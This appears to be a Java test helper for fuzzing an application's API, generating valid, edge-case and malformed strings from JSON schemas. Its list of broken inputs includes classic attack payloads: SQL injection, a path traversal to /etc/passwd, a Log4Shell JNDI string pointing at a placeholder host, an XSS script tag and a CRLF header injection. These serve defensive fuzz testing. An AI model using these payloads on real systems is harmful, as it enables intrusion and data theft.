package io.gnomon.e2e.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.List;
import java.util.stream.StreamSupport;

/** Texts: valid by a schema, at its bounds, and invalid. */
final class TextGenerator {

  private static final int HUGE = 20_000;
  private static final List<String> BROKEN =
      List.of(
          "",
          " ",
          "\0",
          "a\0b",
          "\ud800",
          "a\udfff\ud800b",
          "\uFEFF",
          "\u202Etxt.exe",
          "e\u0301\u0301\u0301",
          "\ud83d\udc69\u200d\ud83d\udcbb",
          "\uFFFF",
          "İ",
          "faß.de",
          "xn--",
          "a..b",
          "*.*",
          "%",
          "%00",
          "_",
          "\\",
          "'",
          "\"; drop table app; --",
          "' or '1'='1",
          "../../etc/passwd",
          "${jndi:ldap://x.example/a}",
          "<script>alert(1)</script>",
          "\r\nSet-Cookie: a=b",
          "-1",
          "0",
          "1e400",
          "NaN",
          "9223372036854775808",
          "99999999999999999999999999",
          "2026-02-30",
          "2026-13-45T25:61:61Z",
          "+999999999-12-31T23:59:59Z",
          "-999999999-01-01",
          "P999999999D",
          "PT-1S",
          "null",
          "true",
          "[]",
          "{}",
          "http://[::1",
          "http://user:password@127.0.0.1:1/",
          "999.999.999.999",
          "::ffff:0:0/129");

  /** Names that mean something in a fresh installation. */
  private static final List<String> KNOWN =
      List.of(
          "dropbox",
          "slack",
          "chatgpt",
          "own",
          "endpoint-users",
          "1",
          "2",
          "17",
          "dropbox.com",
          "https://www.example.org/a",
          "10.1.2.3",
          "admin@example.org",
          "Marketing",
          "mfa",
          "00000000-0000-0000-0000-000000000000");

  private final Chance chance;

  TextGenerator(Chance chance) {
    this.chance = chance;
  }

  String fitting(JsonNode schema) {
    if (schema.has("enum")) {
      var values = StreamSupport.stream(schema.get("enum").spliterator(), false).toList();
      return chance.oneOf(values).asText();
    }
    return switch (schema.path("format").asText()) {
      case "date" -> chance.oneOf(List.of("2026-11-20", "1970-01-01", "9999-12-31"));
      case "date-time" -> chance.oneOf(List.of("2026-11-20T10:00:00Z", "9999-12-31T23:59:59Z"));
      case "duration" -> chance.oneOf(List.of("PT1H", "P7D"));
      case "uuid" -> "00000000-0000-4000-8000-000000000001";
      default -> withinBounds(schema);
    };
  }

  String broken() {
    return chance.percent(4) ? "x".repeat(HUGE) : chance.oneOf(BROKEN);
  }

  private String withinBounds(JsonNode schema) {
    int max = schema.path("maxLength").asInt(0);
    if (max > 0 && chance.percent(15)) {
      return "y".repeat(Math.min(HUGE, max + chance.below(2)));
    }
    return chance.oneOf(KNOWN);
  }
}
